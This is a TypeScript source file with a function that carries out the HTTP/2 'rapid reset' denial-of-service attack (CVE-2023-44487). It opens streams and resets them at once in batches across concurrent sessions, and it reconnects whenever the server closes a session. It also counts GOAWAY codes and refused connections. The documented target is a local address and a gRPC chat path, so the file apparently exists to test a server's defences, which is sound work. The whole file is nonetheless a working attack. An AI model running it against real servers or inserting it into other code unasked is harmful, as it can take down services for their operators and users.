import * as http2 from "node:http2";
import { setImmediate as nextTurn } from "node:timers/promises";

/** What {@link rapidReset} did, and what the server answered. */
export interface RapidResetReport {
  /** Streams opened and reset at once (HEADERS then RST_STREAM CANCEL). */
  streams: number;
  /** Sessions opened, the first ones included. */
  sessions: number;
  /** GOAWAY error codes received, by code. */
  goaways: Record<number, number>;
  /** Connections closed or refused before their session came up. */
  refused: number;
  elapsedMs: number;
}

export interface RapidResetOptions {
  /** `http://127.0.0.1:PORT` */
  url: string;
  /** Streams to open and reset in all. */
  streams: number;
  /** Sessions attacking at once; each one that is closed is replaced by a new one. */
  concurrency: number;
  /** Streams opened per session before yielding to the event loop. Default 100. */
  batch?: number;
  /** Give up after this long. Default 30 s. */
  maxMs?: number;
  path?: string;
}

/**
 * The HTTP/2 "rapid reset" attack (CVE-2023-44487) with reconnects: each
 * session opens streams and resets them at once (resets do not count against
 * SETTINGS_MAX_CONCURRENT_STREAMS), and a session the server closes is
 * replaced by a new one, so a per-session limit alone does not stop it.
 */
export async function rapidReset(options: RapidResetOptions): Promise<RapidResetReport> {
  const { url, batch = 100, maxMs = 30_000 } = options;
  const path = options.path ?? "/chat.v1.ChatService/Send";
  const report: RapidResetReport = {
    streams: 0,
    sessions: 0,
    goaways: {},
    refused: 0,
    elapsedMs: 0,
  };
  const started = performance.now();
  const headers = {
    ":method": "POST",
    ":path": path,
    "content-type": "application/grpc",
    te: "trailers",
  };
  const done = () => report.streams >= options.streams || performance.now() - started > maxMs;

  async function attacker(): Promise<void> {
    while (!done()) {
      report.sessions++;
      const session = http2.connect(url);
      session.on("error", () => {});
      session.on("goaway", (code: number) => {
        report.goaways[code] = (report.goaways[code] ?? 0) + 1;
      });
      const closed = new Promise<void>((resolve) => session.once("close", resolve));
      // Up once the server's SETTINGS arrive: a connection closed at accept still "connects".
      const up = await Promise.race([
        new Promise<boolean>((resolve) => session.once("remoteSettings", () => resolve(true))),
        closed.then(() => false),
      ]);
      if (!up) {
        report.refused++;
        // A refused connection costs the attacker little: try again soon.
        await new Promise((resolve) => setTimeout(resolve, 5));
        continue;
      }
      while (!done() && !session.closed && !session.destroyed) {
        for (let i = 0; i < batch && !session.closed && !session.destroyed; i++) {
          try {
            const stream = session.request(headers, { endStream: false });
            stream.on("error", () => {});
            stream.close(http2.constants.NGHTTP2_CANCEL);
            report.streams++;
          } catch {
            break;
          }
        }
        await nextTurn();
      }
      session.destroy();
      await closed;
    }
  }

  await Promise.all(Array.from({ length: options.concurrency }, attacker));
  report.elapsedMs = performance.now() - started;
  return report;
}
